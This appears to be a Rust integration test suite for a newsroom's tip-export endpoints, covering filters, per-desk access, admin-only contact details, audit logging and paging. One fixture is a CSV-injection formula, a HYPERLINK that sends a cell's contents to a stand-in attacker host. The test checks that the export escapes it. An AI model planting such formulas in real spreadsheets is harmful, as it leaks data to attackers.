//! Exports of the queue (issue 18): `GET /desk/tips/export.csv` and
//! `/desk/tips/export.json` select as the queue's filters do, only the
//! desks a person sees, contacts only for admins who ask, CSV cells that
//! cannot start a formula, Persian intact, every export audited.
//! Mirrors `src/triage/export.rs` and `src/triage/routes/export.rs`.

use crate::helpers::*;
use reqwest::StatusCode;
use serde_json::{json, Value};

const PERSIAN: &str = "وزیر آن روز در کابل نبود و این جمله در پاراگراف دوم غلط است";

/// A CSV export read back as a spreadsheet would: the byte-order mark
/// first, then rows of cells by the header's names.
async fn csv_rows(res: reqwest::Response) -> Vec<std::collections::HashMap<String, String>> {
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(
        res.headers()["content-type"].to_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment; filename=\"tips-"));
    assert_eq!(res.headers()["cache-control"].to_str().unwrap(), "no-store");
    let bytes = res.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 with a byte-order mark");
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    r.records()
        .map(|rec| {
            header
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

async fn json_rows(res: reqwest::Response) -> Vec<Value> {
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(
        res.headers()["content-type"].to_str().unwrap(),
        "application/json"
    );
    res.json::<Vec<Value>>().await.unwrap()
}

fn refs(rows: &[std::collections::HashMap<String, String>]) -> Vec<String> {
    rows.iter().map(|r| r["reference"].clone()).collect()
}

/// The reference of the (one) tip that says `message`.
fn reference_of(app: &TestApp, message: &str) -> String {
    app.tips()
        .into_iter()
        .find(|t| t.message == message)
        .map(|t| t.reference)
        .unwrap()
}

async fn exports_select_as_the_queue_filters_do(backend: Backend) {
    let app = newsroom(backend).await;
    app.leave_jobs_unsent();
    let persian = send_tip(
        &app,
        DEMO_ARTICLE,
        json!({"message": PERSIAN, "name": "Zarghuna", "contact": "+93 70 123 4567", "consent": true}),
    )
    .await;
    const ENGLISH: &str = "The caption names the wrong bridge; it is the old one.";
    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")";
    send_tip(&app, DEMO_ARTICLE, json!({ "message": ENGLISH })).await;
    send_tip(
        &app,
        "derby-report",
        json!({"message": FORMULA, "quote": "-2+3"}),
    )
    .await;
    let (persian_ref, english_ref, formula_ref) = (
        reference_of(&app, PERSIAN),
        reference_of(&app, ENGLISH),
        reference_of(&app, FORMULA),
    );
    let admin = signed_in(&app, "admin@example.org", "admin", &[]).await;
    let res = admin
        .post(
            &format!("/desk/tips/{persian}/labels"),
            &[("labels", "kabul, minister")],
        )
        .await;
    assert!(res.status().is_redirection(), "{}", res.status());
    admin.get(&format!("/desk/tips/{persian}")).await; // first read

    // Everything, newest first, in the columns.
    let all = csv_rows(admin.get("/desk/tips/export.csv").await).await;
    assert_eq!(
        refs(&all),
        [
            formula_ref.as_str(),
            english_ref.as_str(),
            persian_ref.as_str()
        ]
    );
    let fa = &all[2];
    assert_eq!(fa["message"], PERSIAN, "Persian read back intact");
    assert_eq!(fa["article_id"], DEMO_ARTICLE);
    assert_eq!(fa["desk"], "international");
    assert_eq!(fa["kind"], "new_information");
    assert_eq!(fa["status"], "new");
    assert_eq!(fa["labels"], "kabul, minister");
    assert_eq!(fa["language"], "fa");
    assert!(fa["received"].ends_with('Z'), "{}", fa["received"]);
    assert!(!fa["first_read"].is_empty(), "opened by the admin");
    assert!(all[1]["first_read"].is_empty(), "never opened");
    assert!(
        !fa.contains_key("contact") && !fa.contains_key("reader_name"),
        "no contact unless asked"
    );
    let headers: Vec<&str> = {
        let mut h: Vec<&str> = fa.keys().map(String::as_str).collect();
        h.sort_unstable();
        h
    };
    assert_eq!(
        headers,
        [
            "article_id",
            "article_title",
            "assignee",
            "case",
            "desk",
            "first_read",
            "kind",
            "labels",
            "language",
            "message",
            "quote",
            "received",
            "reference",
            "status"
        ]
    );
    // A formula is text in a spreadsheet (OWASP CSV injection).
    assert_eq!(
        all[0]["message"],
        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")"
    );
    assert_eq!(all[0]["quote"], "'-2+3");

    // The queue's filters, read as the queue reads them.
    let intl = csv_rows(admin.get("/desk/tips/export.csv?desk=international").await).await;
    assert_eq!(refs(&intl), [english_ref.as_str(), persian_ref.as_str()]);
    let found = csv_rows(admin.get("/desk/tips/export.csv?q=BRIDGE").await).await;
    assert_eq!(refs(&found), [english_ref.as_str()]);
    let fa_only = json_rows(admin.get("/desk/tips/export.json?language=fa").await).await;
    assert_eq!(fa_only.len(), 1);
    assert_eq!(fa_only[0]["message"], PERSIAN);
    assert_eq!(fa_only[0]["labels"], json!(["kabul", "minister"]));
    assert_eq!(
        fa_only[0]["first_read"].as_str().map(|s| s.ends_with('Z')),
        Some(true)
    );
    assert!(fa_only[0].get("contact").is_none());
    // JSON is data, not a spreadsheet: kept as written.
    let derby = json_rows(admin.get("/desk/tips/export.json?desk=default").await).await;
    assert_eq!(derby.len(), 1);
    assert_eq!(derby[0]["quote"], "-2+3");
    let none = json_rows(admin.get("/desk/tips/export.json?status=closed").await).await;
    assert!(none.is_empty());
    // A filter the queue refuses, the export refuses.
    let bad = admin.get("/desk/tips/export.csv?from=yesterday").await;
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
    let bad = admin.get("/desk/tips/export.csv?include_contact=yes").await;
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);

    // The queue links to the export of what it shows.
    let page = Page::parse(
        &admin
            .get("/desk/tips?desk=international&language=fa")
            .await
            .text()
            .await
            .unwrap(),
    );
    assert_eq!(
        page.attrs("p.export a", "href"),
        [
            "/desk/tips/export.csv?desk=international&language=fa",
            "/desk/tips/export.json?desk=international&language=fa"
        ]
    );
}

async fn contacts_are_for_admins_who_ask_and_editors_export_their_desks(backend: Backend) {
    let app = newsroom(backend).await;
    app.leave_jobs_unsent();
    send_tip(
        &app,
        DEMO_ARTICLE,
        json!({"message": PERSIAN, "name": "Zarghuna", "contact": "reader@example.org", "consent": true}),
    )
    .await;
    let sport = send_tip(
        &app,
        "derby-report",
        json!({"message": "The score was 2-2, not 2-1."}),
    )
    .await;
    let persian_ref = reference_of(&app, PERSIAN);

    let editor = signed_in(&app, "intl@example.org", "editor", &["international"]).await;
    let mine = csv_rows(editor.get("/desk/tips/export.csv").await).await;
    assert_eq!(refs(&mine), [persian_ref.as_str()], "their desk only");
    let asked = csv_rows(editor.get("/desk/tips/export.csv?desk=default").await).await;
    assert!(
        asked.is_empty(),
        "another desk's tips are not theirs to export"
    );
    for path in [
        "/desk/tips/export.csv?include_contact=1",
        "/desk/tips/export.json?include_contact=1",
    ] {
        let res = editor.get(path).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{path}");
        assert!(!res.text().await.unwrap().contains("reader@example.org"));
    }
    let ops = signed_in(&app, "ops@example.org", "ops", &[]).await;
    assert_eq!(
        ops.get("/desk/tips/export.json").await.status(),
        StatusCode::FORBIDDEN
    );

    let admin = signed_in(&app, "admin@example.org", "admin", &[]).await;
    let with = csv_rows(
        admin
            .get("/desk/tips/export.csv?include_contact=1&desk=international")
            .await,
    )
    .await;
    assert_eq!(with.len(), 1);
    assert_eq!(with[0]["reader_name"], "Zarghuna");
    assert_eq!(
        with[0]["contact"], "reader@example.org",
        "opened, not sealed"
    );
    assert_eq!(with[0]["contact_kind"], "email");
    let json = json_rows(admin.get("/desk/tips/export.json?include_contact=1").await).await;
    assert_eq!(json.len(), 2);
    assert_eq!(json[1]["contact"], "reader@example.org");
    assert_eq!(json[0]["contact"], Value::Null, "{sport} left none");

    // Every export is audited, with its filter and count; the refused
    // ones exported nothing.
    let done = |details: &str| {
        app.count_sql(&format!(
            "SELECT count(*) AS n FROM audit_log WHERE action = 'tip.export.done' AND details LIKE '{details}'"
        ))
    };
    assert_eq!(
        app.count_sql("SELECT count(*) AS n FROM audit_log WHERE action = 'tip.export'"),
        4
    );
    assert_eq!(
        done("1 tips, complete; csv; contact: yes; filter: desk=international"),
        1
    );
    assert_eq!(done("2 tips, complete; json; contact: yes; filter: "), 1);
    assert_eq!(done("1 tips, complete; csv; contact: no; filter: "), 1);
    assert_eq!(
        done("0 tips, complete; csv; contact: no; filter: desk=default"),
        1
    );
    assert_eq!(
        app.count_sql(
            "SELECT count(*) AS n FROM audit_log WHERE action LIKE 'tip.export%' AND actor = 'intl@example.org'"
        ),
        4
    );
}

async fn a_long_export_is_paged_through_to_the_end(backend: Backend) {
    let app = newsroom(backend).await;
    app.leave_jobs_unsent();
    // More than a page (500) of tips, through the bench's bulk writer.
    app.insert_bulk_tips(&BulkTips {
        count: 1_203,
        message: "Tip number ",
        desk: "international",
        status: "new",
        at: "2026-11-30 10:00:00",
    });
    let admin = signed_in(&app, "admin@example.org", "admin", &[]).await;
    let rows = json_rows(admin.get("/desk/tips/export.json").await).await;
    assert_eq!(rows.len(), 1_203);
    let mut seen: Vec<&str> = rows
        .iter()
        .map(|r| r["reference"].as_str().unwrap())
        .collect();
    seen.sort_unstable();
    seen.dedup();
    assert_eq!(seen.len(), 1_203, "each tip once");
    let csv = csv_rows(admin.get("/desk/tips/export.csv").await).await;
    assert_eq!(csv.len(), 1_203);
}

/// The header of a CSV export, in order.
async fn csv_header(res: reqwest::Response) -> Vec<String> {
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = res.bytes().await.unwrap();
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    r.headers().unwrap().iter().map(str::to_owned).collect()
}

async fn a_tip_in_a_case_exports_with_the_case_in_the_last_column(backend: Backend) {
    let app = newsroom(backend).await;
    app.leave_jobs_unsent();
    const BRIDGE: &str =
        "The bridge on Route 7 collapsed this morning at nine, and two cars fell into the river.";
    const AGAIN: &str =
        "the bridge on route 7 collapsed this morning at nine -- and two cars fell into the river below!";
    const CAPTION: &str = "The mayor's name is misspelled in the caption of the second photo.";
    let first_id = send_tip(&app, DEMO_ARTICLE, json!({ "message": BRIDGE })).await;
    for m in [CAPTION, AGAIN] {
        send_tip(&app, DEMO_ARTICLE, json!({ "message": m })).await;
    }
    let (first, caption, again) = (
        reference_of(&app, BRIDGE),
        reference_of(&app, CAPTION),
        reference_of(&app, AGAIN),
    );
    let admin = signed_in(&app, "admin@example.org", "admin", &[]).await;

    // Appended: the columns before it keep their names and places.
    let columns = [
        "reference",
        "article_id",
        "article_title",
        "desk",
        "kind",
        "status",
        "assignee",
        "labels",
        "language",
        "received",
        "first_read",
        "message",
        "quote",
    ];
    let header = csv_header(admin.get("/desk/tips/export.csv").await).await;
    assert_eq!(header, [&columns[..], &["case"]].concat());
    let header = csv_header(admin.get("/desk/tips/export.csv?include_contact=1").await).await;
    assert_eq!(
        header,
        [
            &columns[..],
            &["reader_name", "contact_kind", "contact", "case"]
        ]
        .concat()
    );

    // A case is named by its oldest tip's reference; a tip alone by none.
    let rows = csv_rows(admin.get("/desk/tips/export.csv").await).await;
    assert_eq!(refs(&rows), [again.clone(), caption, first.clone()]);
    let cases: Vec<&str> = rows.iter().map(|r| r["case"].as_str()).collect();
    assert_eq!(cases, [first.as_str(), "", first.as_str()]);
    let json = json_rows(admin.get("/desk/tips/export.json").await).await;
    assert_eq!(
        json.iter().map(|r| r["case"].clone()).collect::<Vec<_>>(),
        [json!(first), Value::Null, json!(first)]
    );
    // Filtered to one tip of the case, it still names the case.
    let one = json_rows(admin.get("/desk/tips/export.json?q=below").await).await;
    assert_eq!(one.len(), 1);
    assert_eq!(one[0]["case"], json!(first));
    // The first tip gone (retention), the case goes by its oldest left.
    let third = send_tip(&app, DEMO_ARTICLE, json!({ "message": BRIDGE })).await;
    app.execute_sql(&format!("DELETE FROM tips WHERE id = {first_id}"));
    let json = json_rows(admin.get("/desk/tips/export.json?q=bridge").await).await;
    assert_eq!(json.len(), 2, "{third}");
    assert!(json.iter().all(|r| r["case"] == json!(again)), "{json:?}");
}

crate::both_backends!(
    exports_select_as_the_queue_filters_do,
    contacts_are_for_admins_who_ask_and_editors_export_their_desks,
    a_long_export_is_paged_through_to_the_end,
    a_tip_in_a_case_exports_with_the_case_in_the_last_column,
);
